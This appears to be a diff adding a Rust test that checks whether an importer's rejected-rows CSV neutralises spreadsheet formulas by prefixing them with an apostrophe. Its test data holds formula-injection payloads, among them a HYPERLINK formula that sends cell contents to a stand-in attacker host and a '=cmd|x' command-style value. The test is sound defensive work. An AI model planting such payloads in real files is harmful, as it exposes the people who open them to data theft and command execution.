@@ -225,6 +225,74 @@ fn rows_that_are_set_aside_keep_what_they_had() {
     }
 }
 
+/// A person opens what is set aside, and a title may be a stranger's formula.
+#[test]
+fn rows_that_are_set_aside_run_nothing_in_a_spreadsheet() {
+    let folder = folder();
+    let formula = r#"=HYPERLINK("http://evil.example/?"&A1,"Charizard")"#;
+    let quoted = formula.replace('"', "\"\"");
+    let head = "title,price,date,url";
+    let csv = format!("{head}\n\"{quoted}\",abc,2026-11-20,x\n@SUM(1),-5,2026-11-20\n");
+    write(&folder, "sales.csv", &csv);
+    let line = r#"{"title":"=cmd|x","price":"abc","date":"2026-11-20"}"#;
+    write(&folder, "sales.jsonl", &format!("{line}\n"));
+    let cells = |file: &str| -> Vec<String> {
+        let aside = folder.path().join(format!("{file}.rejected.csv"));
+        let mut aside = csv::Reader::from_path(aside).expect("it is there");
+        let rows = aside
+            .records()
+            .map(|row| row.expect("as long as the header"));
+        rows.flat_map(|row| row.iter().map(str::to_owned).collect::<Vec<_>>())
+            .collect()
+    };
+    for (file, safe) in [
+        (
+            "sales.csv",
+            vec![format!("'{formula}"), "'@SUM(1),-5,2026-11-20".to_owned()],
+        ),
+        ("sales.jsonl", vec!["'=cmd|x".to_owned()]),
+    ] {
+        let ran = server(&folder, &["import", "sales", file]);
+        assert_eq!(ran.code, Some(3), "{file}: {}", ran.said);
+        let cells = cells(file);
+        for cell in &safe {
+            assert!(cells.contains(cell), "{file}: {cells:?}");
+        }
+        assert!(
+            !cells.iter().any(|cell| cell.starts_with(['=', '@'])),
+            "{cells:?}"
+        );
+    }
+    // corrected and imported, a title is what it was
+    let aside = folder.path().join("sales.csv.rejected.csv");
+    let aside = std::fs::read_to_string(aside).expect("it is there");
+    let (kept, _) = aside.split_once("\n3,").expect("two rows");
+    write(
+        &folder,
+        "again.csv",
+        &format!("{}\n", kept.replace(",abc,", ",-0x,")),
+    );
+    let ran = server(
+        &folder,
+        &["import", "sales", "again.csv", "--ignore-columns"],
+    );
+    assert_eq!(ran.code, Some(3), "{}", ran.said);
+    let again = cells("again.csv");
+    assert!(again.contains(&format!("'{formula}")), "{again:?}");
+    write(
+        &folder,
+        "right.csv",
+        &format!("{}\n", kept.replace(",abc,", ",5,")),
+    );
+    let ran = server(
+        &folder,
+        &["import", "sales", "right.csv", "--ignore-columns"],
+    );
+    assert_eq!(ran.code, Some(0), "{}", ran.said);
+    let listed = server(&folder, &["review", "list"]).out;
+    assert!(listed.contains("\"title\":\"=HYPERLINK("), "{listed}");
+}
+
 /// A few megabytes of gzip hold many gigabytes, and a quote that is never closed takes all.
 #[test]
 fn content_and_rows_are_bounded() {
